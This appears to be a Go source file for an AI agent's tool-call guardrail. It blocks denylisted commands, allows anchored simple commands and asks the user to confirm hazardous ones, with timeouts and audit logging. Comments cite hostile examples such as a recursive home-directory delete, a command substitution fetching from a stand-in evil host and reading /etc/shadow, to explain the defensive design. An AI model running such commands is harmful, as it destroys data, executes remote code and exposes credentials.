// Package guardrail classifies proposed tool invocations and manages the
// confirm-or-abort state machine for hazardous calls.
package guardrail

import (
	"context"
	"fmt"
	"log/slog"
	"regexp"
	"strings"
	"sync"
	"time"

	"steward/internal/config"
	"steward/internal/domain"

	"github.com/google/uuid"
)

// NotifyFunc reports a guardrail outcome the user did not trigger themselves
// (currently only expiry) back to the conversation.
type NotifyFunc func(chatKey string, req domain.GuardrailRequest)

// Engine evaluates tool calls against the static policy and tracks pending
// confirmations, at most one per chat key.
type Engine struct {
	cfg         config.GuardrailConfig
	auditLogger domain.AuditLogger
	logger      *slog.Logger
	now         func() time.Time
	timeout     time.Duration

	denyRe    []*regexp.Regexp
	allowRe   []*regexp.Regexp
	confirmRe []*regexp.Regexp

	mu      sync.Mutex
	pending map[string]*pendingRequest // chat key -> request
}

type pendingRequest struct {
	req    domain.GuardrailRequest
	timer  *time.Timer
	notify NotifyFunc
}

func NewEngine(cfg config.GuardrailConfig, auditLogger domain.AuditLogger, logger *slog.Logger) (*Engine, error) {
	e := &Engine{
		cfg:         cfg,
		auditLogger: auditLogger,
		logger:      logger,
		now:         time.Now,
		timeout:     time.Duration(cfg.ConfirmTimeoutSeconds) * time.Second,
		pending:     make(map[string]*pendingRequest),
	}

	var err error
	if e.denyRe, err = compilePatterns(cfg.Denylist); err != nil {
		return nil, fmt.Errorf("invalid denylist pattern: %w", err)
	}
	if e.allowRe, err = compileAnchoredPatterns(cfg.Allowlist); err != nil {
		return nil, fmt.Errorf("invalid allowlist pattern: %w", err)
	}
	if e.confirmRe, err = compilePatterns(cfg.ConfirmPatterns); err != nil {
		return nil, fmt.Errorf("invalid confirm pattern: %w", err)
	}
	return e, nil
}

// Verdict is the outcome of classifying one tool call.
type Verdict string

const (
	VerdictAllow   Verdict = "allow"   // safe, execute immediately
	VerdictBlock   Verdict = "block"   // denylisted, never execute
	VerdictConfirm Verdict = "confirm" // hazardous, needs user confirmation
)

// Classify inspects a tool call's security-relevant argument string.
// Denylist always blocks; allowlist then passes; confirm patterns require
// approval; anything else is safe.
func (e *Engine) Classify(ctx context.Context, call domain.ToolCall) Verdict {
	cmd := strings.TrimSpace(securityCommand(call))
	if cmd == "" {
		return VerdictAllow
	}

	for _, re := range e.denyRe {
		if re.MatchString(cmd) {
			e.logger.Warn("tool call blocked by denylist",
				"tool", call.Name,
				"command", cmd,
				"pattern", re.String(),
			)
			e.logAction(ctx, "command_blocked", call.Name, cmd, "blocked")
			return VerdictBlock
		}
	}
	// The allowlist only short-circuits simple commands. An entry like "ls"
	// must not vouch for "ls && rm -rf ~" or "ls $(curl evil.sh)".
	if !hasShellControl(cmd) {
		for _, re := range e.allowRe {
			if re.MatchString(cmd) {
				return VerdictAllow
			}
		}
	}
	for _, re := range e.confirmRe {
		if re.MatchString(cmd) {
			e.logger.Info("tool call requires confirmation", "tool", call.Name, "command", cmd)
			return VerdictConfirm
		}
	}
	return VerdictAllow
}

// Classification maps a verdict onto the safe/hazardous taxonomy.
func (v Verdict) Classification() domain.Classification {
	if v == VerdictAllow {
		return domain.ClassSafe
	}
	return domain.ClassHazardous
}

// Request creates a pending confirmation for a hazardous call. A prior
// pending request on the same chat is superseded (denied) first. The notify
// callback fires exactly once if the request expires.
func (e *Engine) Request(ctx context.Context, chatKey string, call domain.ToolCall, notify NotifyFunc) (domain.GuardrailRequest, error) {
	timeout := e.timeout
	now := e.now()

	req := domain.GuardrailRequest{
		ID:        uuid.NewString(),
		ChatKey:   chatKey,
		Call:      call,
		State:     domain.StatePending,
		CreatedAt: now,
		Deadline:  now.Add(timeout),
	}

	e.mu.Lock()
	if prev, ok := e.pending[chatKey]; ok {
		prev.timer.Stop()
		delete(e.pending, chatKey)
		e.logger.Info("superseding pending guardrail request", "chat", chatKey, "request", prev.req.ID)
	}
	p := &pendingRequest{req: req, notify: notify}
	p.timer = time.AfterFunc(timeout, func() { e.expire(chatKey, req.ID) })
	e.pending[chatKey] = p
	e.mu.Unlock()

	return req, nil
}

// Resolve transitions the chat's pending request to confirmed or denied.
// Resolving a chat with no pending request fails with ErrNoPendingRequest.
func (e *Engine) Resolve(ctx context.Context, chatKey string, approve bool) (domain.GuardrailRequest, error) {
	e.mu.Lock()
	p, ok := e.pending[chatKey]
	if !ok {
		e.mu.Unlock()
		return domain.GuardrailRequest{}, domain.ErrNoPendingRequest
	}
	p.timer.Stop()
	delete(e.pending, chatKey)
	req := p.req
	e.mu.Unlock()

	cmd := securityCommand(req.Call)
	if approve {
		req.State = domain.StateConfirmed
		e.logAction(ctx, "confirm_yes", req.Call.Name, cmd, "confirmed")
	} else {
		req.State = domain.StateDenied
		e.logAction(ctx, "confirm_no", req.Call.Name, cmd, "denied")
	}
	return req, nil
}

// Cancel invalidates the chat's pending request, if any. Used when a new
// message supersedes a confirmation the user never answered.
func (e *Engine) Cancel(ctx context.Context, chatKey string) bool {
	e.mu.Lock()
	p, ok := e.pending[chatKey]
	if ok {
		p.timer.Stop()
		delete(e.pending, chatKey)
	}
	e.mu.Unlock()

	if ok {
		e.logAction(ctx, "confirm_no", p.req.Call.Name, securityCommand(p.req.Call), "superseded")
	}
	return ok
}

// HasPending reports whether the chat is awaiting a confirmation.
func (e *Engine) HasPending(chatKey string) bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	_, ok := e.pending[chatKey]
	return ok
}

// expire runs from the request's timer. The ID check makes it a no-op when
// the request was already resolved or superseded.
func (e *Engine) expire(chatKey, requestID string) {
	e.mu.Lock()
	p, ok := e.pending[chatKey]
	if !ok || p.req.ID != requestID {
		e.mu.Unlock()
		return
	}
	delete(e.pending, chatKey)
	e.mu.Unlock()

	p.req.State = domain.StateExpired
	e.logger.Info("guardrail request expired", "chat", chatKey, "request", requestID)
	e.logAction(context.Background(), "confirm_expired", p.req.Call.Name, securityCommand(p.req.Call), "expired")

	if p.notify != nil {
		p.notify(chatKey, p.req)
	}
}

func (e *Engine) logAction(ctx context.Context, action, toolName, detail, result string) {
	if !e.cfg.AuditLog || e.auditLogger == nil {
		return
	}
	if err := e.auditLogger.LogAudit(ctx, domain.AuditEntry{
		Action:   action,
		ToolName: toolName,
		Detail:   detail,
		Result:   result,
	}); err != nil {
		e.logger.Warn("cannot write audit entry", "action", action, "err", err)
	}
}

// securityCommand extracts the human-readable string the policy evaluates.
// Covers shell execution, file writes, and web fetches.
func securityCommand(call domain.ToolCall) string {
	argStr := func(key string) string {
		if v, ok := call.Arguments[key]; ok {
			return fmt.Sprintf("%v", v)
		}
		return ""
	}

	switch call.Name {
	case "shell", "exec":
		return argStr("command")
	case "write_file", "append_file":
		if path := argStr("path"); path != "" {
			return "write " + path
		}
	case "web_fetch":
		if url := argStr("url"); url != "" {
			return "fetch " + url
		}
	}
	return ""
}

// ConfirmQuestion renders the question shown to the user for a pending call.
func ConfirmQuestion(req domain.GuardrailRequest) string {
	return fmt.Sprintf(
		"This action needs your confirmation.\n\nTool: %s\nCommand: %s\n\nReply \"yes\" to allow or \"no\" to abort.",
		req.Call.Name, securityCommand(req.Call),
	)
}

// hasShellControl reports whether the command chains, substitutes, or
// redirects. Such commands never ride the allowlist.
func hasShellControl(cmd string) bool {
	return strings.ContainsAny(cmd, ";|&`$><\n")
}

// compileAnchoredPatterns compiles allowlist entries. Simple strings anchor
// to the command's leading token: "cat" matches "cat notes.txt" but never
// "sudo cat /etc/shadow" or "rm echo.txt". Regex entries compile as-is.
func compileAnchoredPatterns(patterns []string) ([]*regexp.Regexp, error) {
	compiled := make([]*regexp.Regexp, 0, len(patterns))
	for _, p := range patterns {
		var re *regexp.Regexp
		var err error
		if isRegex(p) {
			re, err = regexp.Compile(p)
		} else {
			re, err = regexp.Compile(`(?i)^` + regexp.QuoteMeta(p) + `(\s|$)`)
		}
		if err != nil {
			return nil, fmt.Errorf("pattern %q: %w", p, err)
		}
		compiled = append(compiled, re)
	}
	return compiled, nil
}

// Simple strings are converted to case-insensitive substring matches;
// anything containing regex metacharacters compiles as-is.
func compilePatterns(patterns []string) ([]*regexp.Regexp, error) {
	compiled := make([]*regexp.Regexp, 0, len(patterns))
	for _, p := range patterns {
		var re *regexp.Regexp
		var err error
		if isRegex(p) {
			re, err = regexp.Compile(p)
		} else {
			re, err = regexp.Compile(`(?i)` + regexp.QuoteMeta(p))
		}
		if err != nil {
			return nil, fmt.Errorf("pattern %q: %w", p, err)
		}
		compiled = append(compiled, re)
	}
	return compiled, nil
}

func isRegex(s string) bool {
	for _, c := range s {
		switch c {
		case '(', ')', '[', ']', '{', '}', '|', '^', '$', '.', '*', '+', '?', '\\':
			return true
		}
	}
	return false
}
